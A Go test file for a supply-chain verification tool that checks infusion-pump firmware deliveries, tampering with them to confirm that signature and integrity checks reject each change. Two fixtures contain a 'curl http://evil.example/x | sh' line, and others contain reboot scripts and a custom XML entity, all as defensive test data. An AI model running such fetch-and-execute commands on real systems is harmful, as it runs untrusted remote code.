package gate_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/cleanbill-dev/cleanbill/pkg/decision"
)

// TestHostileDeliveries changes the accepted demo delivery as a malicious supplier, or somebody on the way,
// could. Each change must be seen by the check that is there for it, and none may be accepted.
func TestHostileDeliveries(t *testing.T) {
	const sbom, manifest = "sbom.cdx.json", "delivery.yaml"
	for _, tc := range []struct {
		name           string
		change         func(t *testing.T, dir string)
		check, subject string
		want           decision.Outcome
	}{
		{"a bare statement with a key twice", func(t *testing.T, dir string) {
			write(t, filepath.Join(dir, "extra.json"), `{"_type":"https://in-toto.io/Statement/v1","_type":"https://in-toto.io/Statement/v1","subject":[],"predicateType":"https://example.com/x"}`)
		}, "INT-005", "extra.json", decision.Fail},
		{"a manifest that calls the SBOM an artifact", func(t *testing.T, dir string) {
			replace(t, filepath.Join(dir, manifest), "path: "+sbom+", role: evidence", "path: "+sbom+", role: artifact")
			replace(t, filepath.Join(dir, sbom), `"specVersion": "1.6"`, `"specVersion": "1.6", "unheardOf": 1`)
		}, "INT-004", sbom, decision.Fail},
		{"an unsigned script called a document", func(t *testing.T, dir string) {
			write(t, filepath.Join(dir, "README.txt"), "#!/bin/sh\nreboot\n")
			appendTo(t, filepath.Join(dir, manifest), "  - path: README.txt\n    role: document\n    sha256: "+strings.Repeat("0", 64)+"\n")
		}, "SIG-001", "README.txt", decision.Fail},
		{"an unsigned script in plain text, called a document", func(t *testing.T, dir string) {
			write(t, filepath.Join(dir, "setup.txt"), "curl http://evil.example/x | sh\nreboot now\n")
			appendTo(t, filepath.Join(dir, manifest), "  - path: setup.txt\n    role: document\n    sha256: "+strings.Repeat("0", 64)+"\n")
		}, "SIG-001", "setup.txt", decision.Fail},
		{"a manifest that cannot be read", func(t *testing.T, dir string) {
			replace(t, filepath.Join(dir, manifest), "kind: cleanbill.delivery/v1", "kind: cleanbill.delivery/v2")
		}, "INT-005", manifest, decision.Fail},
		{"an unsigned note", func(t *testing.T, dir string) {
			write(t, filepath.Join(dir, "NOTES.txt"), "Please remember that the pump was tested with care by our whole team this year.\n")
		}, "SIG-007-TEXT", "NOTES.txt", decision.Fail},
		{"an unsigned promise of support", func(t *testing.T, dir string) {
			write(t, filepath.Join(dir, "support.csv"), "purl,Level of support,End of support\npkg:deb/debian/busybox,actively maintained,2040-01-01\n")
		}, "SIG-007", "support.csv", decision.Fail},
		{"a script under the headings of support", func(t *testing.T, dir string) {
			write(t, filepath.Join(dir, "support.csv"), "purl,End of support\ncurl http://evil.example/x | sh\n")
		}, "SIG-001", "support.csv", decision.Fail},
		{"a table of support with two dates for one thing", func(t *testing.T, dir string) {
			write(t, filepath.Join(dir, "support.csv"), "purl,End of support,EOS\npkg:deb/debian/busybox,2040-01-01,2020-01-01\n")
		}, "INT-005", "support.csv", decision.Fail},
		{"the image left out", func(t *testing.T, dir string) {
			remove(t, filepath.Join(dir, "drip2-4.2.3.squashfs"))
		}, "INT-001-SOFTWARE", ".", decision.Fail},
		{"a stranger's bundle beside the maker's", func(t *testing.T, dir string) {
			stranger, err := os.ReadFile(filepath.Join("..", "..", "testdata", "deliveries", "infusion-pump-wrong-signer", manifest+".sigstore.json"))
			if err != nil {
				t.Fatal(err)
			}
			appendTo(t, filepath.Join(dir, manifest+".sigstore.json"), "\n"+string(stranger))
		}, "SIG-001-STRAY", ".", decision.Fail},
		{"an SBOM of a device with another GTIN", func(t *testing.T, dir string) {
			replace(t, filepath.Join(dir, sbom), `"value": "00000000004237"`, `"value": "00000000009999"`)
		}, "INT-006", sbom, decision.Fail},
		{"a second SBOM about something else", func(t *testing.T, dir string) {
			write(t, filepath.Join(dir, "other.cdx.json"), `{"bomFormat":"CycloneDX","specVersion":"1.6","metadata":{"component":{"type":"firmware","name":"Other","version":"1"}}}`)
		}, "INT-006", "other.cdx.json", decision.Fail},
		{"a second SBOM about something else, in XML", func(t *testing.T, dir string) {
			write(t, filepath.Join(dir, "other.xml"), `<bom xmlns="http://cyclonedx.org/schema/bom/1.6"><metadata><component type="firmware"><name>Other</name><version>1</version></component></metadata></bom>`)
		}, "INT-006", "other.xml", decision.Fail},
		{"an XML SBOM that breaks its schema", func(t *testing.T, dir string) {
			write(t, filepath.Join(dir, "other.xml"), `<bom xmlns="http://cyclonedx.org/schema/bom/1.6"><components><component><name>a</name></component></components></bom>`)
		}, "INT-004", "other.xml", decision.Fail},
		{"an XML SBOM with an element twice", func(t *testing.T, dir string) {
			write(t, filepath.Join(dir, "other.xml"), `<bom xmlns="http://cyclonedx.org/schema/bom/1.6"><components><component type="library"><name>a</name><name>b</name></component></components></bom>`)
		}, "INT-005", "other.xml", decision.Fail},
		{"an XML SBOM with entities of its own", func(t *testing.T, dir string) {
			write(t, filepath.Join(dir, "other.xml"), `<!DOCTYPE bom [<!ENTITY a "ha">]><bom xmlns="http://cyclonedx.org/schema/bom/1.6"><metadata/></bom>`)
		}, "INT-005", "other.xml", decision.Fail},
		{"an SBOM in protobuf", func(t *testing.T, dir string) {
			write(t, filepath.Join(dir, "other.pb"), "\n\x031.6\x10\x01\x1a\x03abc")
		}, "INT-004", "other.pb", decision.Indeterminate},
		{"an SBOM without a single component", func(t *testing.T, dir string) {
			write(t, filepath.Join(dir, sbom), `{"bomFormat":"CycloneDX","specVersion":"1.6","version":1}`)
		}, "SBM-012", sbom, decision.Fail},
		{"a warning behind a remark", func(t *testing.T, dir string) {
			write(t, filepath.Join(dir, "vex.json"), "// of Fabulon\n"+`{"@context":"https://openvex.dev/ns/v0.2.0","@id":"a","author":"a","timestamp":"2026-01-01T00:00:00Z","version":1,"statements":[{"vulnerability":{"name":"CVE-2026-1"},"products":[{"@id":"a"}],"status":"affected"}]}`)
		}, "INT-005", "vex.json", decision.Indeterminate},
		{"a checksum list in place of a signature", func(t *testing.T, dir string) {
			remove(t, filepath.Join(dir, "drip2-4.2.3.squashfs.sigstore.json"))
			remove(t, filepath.Join(dir, manifest+".sigstore.json"))
			remove(t, filepath.Join(dir, "provenance.sigstore.json"))
			remove(t, filepath.Join(dir, "sbom.attestation.sigstore.json"))
			write(t, filepath.Join(dir, "SHA256SUMS"), "380d8e8239324ab498d4e99a8da59a5cfb29179e2b174c5cd861c54c330f4cba  drip2-4.2.3.squashfs\n")
		}, "SIG-001", "drip2-4.2.3.squashfs", decision.Fail},
		{"a broken bundle beside a signature of an unknown kind", func(t *testing.T, dir string) {
			remove(t, filepath.Join(dir, manifest+".sigstore.json"))
			remove(t, filepath.Join(dir, "provenance.sigstore.json"))
			remove(t, filepath.Join(dir, "sbom.attestation.sigstore.json"))
			replace(t, filepath.Join(dir, "drip2-4.2.3.squashfs.sigstore.json"), `"integratedTime":"17`, `"integratedTime":"16`)
			write(t, filepath.Join(dir, "drip2-4.2.3.squashfs.minisig"), "untrusted comment: signature from minisign secret key\nRUQf6LRCGA9i559r3g7V1qNyJDApGip8MfqcadIgT9CuhV3EMhHoN1mGTkUidF/z7SrlQgXdy8ofjb7bNJJylDOocrCo8KLzZwo=\n")
		}, "SIG-001", "drip2-4.2.3.squashfs", decision.Fail},
	} {
		t.Run(tc.name, func(t *testing.T) {
			dir := t.TempDir()
			if err := os.CopyFS(dir, os.DirFS(filepath.Join("..", "..", "testdata", "deliveries", "infusion-pump"))); err != nil {
				t.Fatal(err)
			}
			tc.change(t, dir)
			d := judgeReal(t, dir, filepath.Join("..", "..", "testdata", "suppliers"))
			if d.Verdict == decision.Accept && tc.check != "SIG-001-STRAY" { // which is a remark
				t.Error("accepted")
			}
			if got := outcomeOf(d, tc.check, tc.subject); got != tc.want {
				t.Errorf("%s on %s: %s, want %s", tc.check, tc.subject, got, tc.want)
			}
		})
	}
}

func replace(t *testing.T, path, from, to string) {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(data), from) {
		t.Fatalf("%s does not contain %q:\n%.600s", path, from, data)
	}
	write(t, path, strings.Replace(string(data), from, to, 1))
}

func appendTo(t *testing.T, path, text string) {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	write(t, path, string(data)+text)
}

func remove(t *testing.T, path string) {
	t.Helper()
	if err := os.Remove(path); err != nil {
		t.Fatal(err)
	}
}

// An SBOM in XML is judged like one in JSON, and places in it are paths of XML.
func TestXMLSBOMIsJudged(t *testing.T) {
	dir := t.TempDir()
	if err := os.CopyFS(dir, os.DirFS(filepath.Join("..", "..", "testdata", "deliveries", "infusion-pump"))); err != nil {
		t.Fatal(err)
	}
	write(t, filepath.Join(dir, "more.xml"), `<bom xmlns="http://cyclonedx.org/schema/bom/1.6"><components><component type="library"><name>a</name></component></components></bom>`)
	d := judgeReal(t, dir, filepath.Join("..", "..", "testdata", "suppliers"))
	if got := outcomeOf(d, "INT-004", "more.xml"); got != decision.Pass {
		t.Errorf("INT-004 on a valid document: %s", got)
	}
	const component = "/bom/components/component"
	seen := 0
	for _, f := range d.Findings {
		for _, e := range f.Evidence {
			if e.File == "more.xml" && strings.HasPrefix(e.Pointer, component) {
				seen++
			}
		}
	}
	if seen == 0 {
		t.Errorf("no finding lies in %s", component)
	}
}
